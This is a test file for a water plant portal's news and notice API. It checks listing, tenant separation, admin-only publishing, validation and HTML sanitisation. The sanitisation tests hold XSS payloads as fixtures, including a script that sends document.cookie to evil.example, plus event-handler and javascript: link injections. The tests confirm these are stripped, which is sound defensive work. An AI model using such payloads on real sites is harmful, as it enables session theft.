import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../test/harness.js';
import { portalKit, type PortalKit } from '../test-kit.js';
import { newsItems } from '../../../seed/portal/news.js';

let t: TestApp;
let k: PortalKit;

const N = '/portal/portal/messageNews/v1';
const titles = (res: { json(): { rows: Array<{ title: string }> } }) => res.json().rows.map((r) => r.title);
// The seeded texts follow the seed date (the next holiday's duty roster, last month's water quality, next month's overhauls).
const [holiday, quality, overhaul, training] = newsItems(new Date());

beforeAll(async () => {
  t = await createTestApp();
  k = portalKit(t);
});
afterAll(() => t.close());

describe('POST /portal/messageNews/v1/list and listNotice', () => {
  it('lists the published news, newest first, with summaries instead of bodies', async () => {
    const res = await k.post(`${N}/list?isPublic=true`, await k.token('chenjing'), { pageBean: { page: 1, pageSize: 10 } });
    expect(res.statusCode).toBe(200);
    expect(titles(res)).toEqual([quality.title, training.title, '生化池曝气系统节能改造顺利完成', '厂区开放日迎来社区居民参观']);
    const row = res.json().rows[0];
    expect(Object.keys(row).sort()).toEqual(['cover', 'createTime', 'id', 'isPublic', 'isTop', 'publishTime', 'publisher', 'publisherId', 'summary', 'title', 'type']);
    expect(row).toMatchObject({ type: 'news', isPublic: 1, publisher: '化验室' });
    expect(row.summary).toMatch(/^据化验室统计，\d{1,2}月份我厂累计处理污水\d+\.\d万立方米/);
    expect(row.summary).not.toMatch(/<|>/);
  });

  it('lists notices with the pinned one first, and filters through the whitelist', async () => {
    const token = await k.token('chenjing');
    const res = await k.post(`${N}/listNotice?isPublic=true`, token, {});
    expect(titles(res)).toEqual([holiday.title, overhaul.title, '关于开展有限空间作业专项检查的通知', '关于调整化验室水样送检时间的通知']);
    expect(res.json().rows[0].isTop).toBe(1);
    const filtered = await k.post(`${N}/listNotice?isPublic=true`, token, { querys: [{ property: 'title', value: '检修', operation: 'LIKE' }] });
    expect(titles(filtered)).toEqual([overhaul.title]);
    const bad = await k.post(`${N}/list`, token, { querys: [{ property: 'content', value: 'x' }] });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().message).toMatch(/unknown property 'content'/);
    expect((await k.post(`${N}/list?isPublic=yes`, token, {})).statusCode).toBe(400);
  });

  it('keeps tenants apart', async () => {
    const hx = await k.otherTenantToken();
    expect((await k.post(`${N}/list?isPublic=true`, hx, {})).json()).toMatchObject({ rows: [], total: 0 });
    const plantNews = (await k.post(`${N}/list?isPublic=true`, await k.token('chenjing'), {})).json().rows[0].id;
    expect((await k.get(`${N}/getById?id=${plantNews}`, hx)).statusCode).toBe(404);
  });
});

describe('GET /portal/messageNews/v1/getById', () => {
  it('gives the sanitised body and the attachments (ffj), which every reader may download', async () => {
    const token = await k.token('chenjing');
    const id = (await k.post(`${N}/listNotice?isPublic=true`, token, {})).json().rows[0].id;
    const res = await k.get(`${N}/getById?id=${id}`, token);
    expect(res.statusCode).toBe(200);
    const detail = res.json();
    expect(detail.content).toMatch(/<strong>\d{1,2}月\d{1,2}日至\d{1,2}月\d{1,2}日<\/strong>/);
    const files = JSON.parse(detail.ffj) as Array<{ id: string; name: string; size: number }>;
    expect(files).toEqual([{ id: expect.stringMatching(/^[0-9a-f]{32}$/), name: holiday.attachment!.name, size: expect.any(Number) }]);
    // The roster is a private file of the administrator; the news grant lets every reader of the notice fetch it.
    const file = await k.get(`/portal/system/file/v1/downloadFile?fileId=${files[0].id}`, token);
    expect(file.statusCode).toBe(200);
    expect(file.body).toContain(holiday.attachment!.csv.split('\n')[2]);
  });

  it('answers 404 for unknown ids and 400 without one', async () => {
    const token = await k.token('chenjing');
    expect((await k.get(`${N}/getById?id=nope`, token)).statusCode).toBe(404);
    expect((await k.get(`${N}/getById`, token)).statusCode).toBe(400);
  });

  it('sanitises HTML on the way out, even when a row was written past the service', async () => {
    const plant = await k.plantId();
    await t.db.insertInto('portal_news').values({
      id: 'raw-news', tenant_id: plant, type: 'news', title: '导入的新闻', summary: '导入', cover: null, ffj: '[]', is_public: 1, is_top: 0,
      publisher_id: null, publisher: '导入', publish_time: '2026-01-01T00:00:00.000Z', created_at: '2026-01-01T00:00:00.000Z', updated_at: '2026-01-01T00:00:00.000Z',
      content: '<p onclick="steal()">正文</p><script>alert(1)</script><img src="x" onerror="alert(2)"><a href="javascript:alert(3)">链接</a>',
    }).execute();
    const res = await k.get(`${N}/getById?id=raw-news`, await k.token('chenjing'));
    expect(res.json().content).toBe('<p>正文</p><img src="x" /><a>链接</a>');
  });
});

describe('POST /portal/messageNews/v1/save', () => {
  const body = {
    type: 'notice', title: '  关于冬季防冻措施的通知 ', isPublic: 0,
    content: '<p>请各班组做好<b>管道保温</b>。</p><script>fetch("https://evil.example/?c="+document.cookie)</script><iframe src="https://evil.example"></iframe>',
  };

  it('stores an administrator\'s draft sanitised; only the administrators see drafts', async () => {
    const admin = await k.token('admin');
    const res = await k.post(`${N}/save`, admin, body);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ state: true, message: '保存成功' });
    const id = res.json().value as string;
    const row = await t.db.selectFrom('portal_news').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
    expect(row).toMatchObject({ title: '关于冬季防冻措施的通知', content: '<p>请各班组做好<b>管道保温</b>。</p>', summary: '请各班组做好管道保温。', is_public: 0, publish_time: null, publisher: '系统管理员' });

    const staff = await k.token('chenjing');
    expect(titles(await k.post(`${N}/listNotice`, staff, {}))).not.toContain('关于冬季防冻措施的通知');
    expect((await k.get(`${N}/getById?id=${id}`, staff)).statusCode).toBe(404);
    expect(titles(await k.post(`${N}/listNotice`, admin, {}))).toContain('关于冬季防冻措施的通知');
    expect(titles(await k.post(`${N}/listNotice?isPublic=true`, admin, {}))).not.toContain('关于冬季防冻措施的通知');

    // Publishing it sets the publication time and shows it to everyone.
    const published = await k.post(`${N}/save`, admin, { ...body, id, isPublic: true });
    expect(published.json().value).toBe(id);
    expect((await k.get(`${N}/getById?id=${id}`, staff)).json()).toMatchObject({ isPublic: 1, publishTime: expect.stringMatching(/^\d{4}-/) });
  });

  it('refuses non-administrators with 403 and changes nothing', async () => {
    const before = await t.db.selectFrom('portal_news').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    const res = await k.post(`${N}/save`, await k.token('sunyan'), { ...body, title: '越权发布' });
    expect(res.statusCode).toBe(403);
    expect(res.json().message).toBe('只有管理员可以发布新闻公告');
    const after = await t.db.selectFrom('portal_news').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
    expect(Number(after.n)).toBe(Number(before.n));
  });

  it('names the field of bad input: empty title, unknown type, a file that does not exist, an unknown id', async () => {
    const admin = await k.token('admin');
    const empty = await k.post(`${N}/save`, admin, { ...body, title: '  ' });
    expect(empty.statusCode).toBe(400);
    expect(empty.json().message).toMatch(/^body\.title: /);
    expect((await k.post(`${N}/save`, admin, { ...body, type: 'memo' })).json().message).toMatch(/^body\.type: /);
    const file = await k.post(`${N}/save`, admin, { ...body, ffj: [{ id: 'missing-file', name: 'a.pdf' }] }, { lang: 'en-US' });
    expect(file.statusCode).toBe(400);
    expect(file.json().message).toBe('ffj: no such file: missing-file');
    expect((await k.post(`${N}/save`, admin, { ...body, id: 'no-such-news' })).statusCode).toBe(404);
  });
});
